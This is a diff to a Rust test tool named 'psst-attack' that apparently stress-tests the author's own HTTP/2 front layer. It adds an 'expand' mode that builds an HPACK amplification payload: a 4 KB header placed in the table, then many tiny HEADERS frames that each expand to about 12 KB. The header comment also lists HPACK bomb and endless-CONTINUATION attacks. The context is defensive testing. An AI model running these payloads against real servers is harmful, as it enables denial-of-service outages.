@@ -15,6 +15,9 @@
 //!                                                  streams it closed, an HPACK bomb, an endless
 //!                                                  CONTINUATION, and GetSecrets of REFERENCE
 //!                                                  sent without reading a reply
+//!   psst-attack expand SOCKET COUNT                one 4 KB header put in the HPACK table, then
+//!                                                  COUNT 15-byte HEADERS frames that each refer
+//!                                                  to it three times (12 KB decoded apiece)
 
 use std::time::{Duration, Instant};
 
@@ -29,7 +32,7 @@ use tokio::{
 
 fn usage() -> ! {
     eprintln!(
-        "usage: psst-attack idle|bodies|churn|tcp-idle|streams|stall|raw-frames ARGS (see the source)"
+        "usage: psst-attack idle|bodies|churn|tcp-idle|streams|stall|raw-frames|expand ARGS (see the source)"
     );
     std::process::exit(2)
 }
@@ -52,6 +55,7 @@ async fn main() {
         "streams" => streams(&args[1], arg(&args, 2), arg(&args, 3)).await,
         "stall" => stall(&args[1]).await,
         "raw-frames" => raw_frames(&args[1], &args[2]).await,
+        "expand" => expand(&args[1], arg(&args, 2)).await,
         _ => usage(),
     };
     println!("{report}");
@@ -566,4 +570,34 @@ async fn raw_frames(socket: &str, reference: &str) -> serde_json::Value {
         "flood_requests": flood_requests,
         "flood_blocked": flood_blocked,
     })
+}
+
+/// Header blocks that are small on the wire and large decoded: the layer in front of h2 decodes
+/// them and hands h2 literals, so it must not take apart more of them than h2 reads. Reports how
+/// many frames were sent and how the connection ended.
+async fn expand(socket: &str, count: u32) -> serde_json::Value {
+    let Some(mut raw) = Raw::connect(socket).await else {
+        return serde_json::json!({"error": "no connection"});
+    };
+    // Stream 1 puts the 4 KB header in the table (:method POST, :scheme http, :path /).
+    let mut block = BytesMut::from(&[0x83u8, 0x86, 0x84][..]);
+    block.put_u8(0x40);
+    put_string(&mut block, b"x-big");
+    put_string(&mut block, &[b'b'; 4000]);
+    let mut out = BytesMut::new();
+    put_frame(&mut out, 1, 0x5, 1, &block);
+    // Then each stream refers to it three times: 6 bytes of block, ~12 KB of headers.
+    for i in 1..=count {
+        put_frame(
+            &mut out,
+            1,
+            0x5,
+            1 + 2 * i,
+            &[0x83, 0x86, 0x84, 0xbe, 0xbe, 0xbe],
+        );
+    }
+    let sent = tokio::time::timeout(Duration::from_secs(10), raw.send(&out)).await;
+    let last = 1 + 2 * count;
+    let ended = raw.status_of(last).await;
+    serde_json::json!({"sent": matches!(sent, Ok(true)), "frames": count, "last": ended})
 }
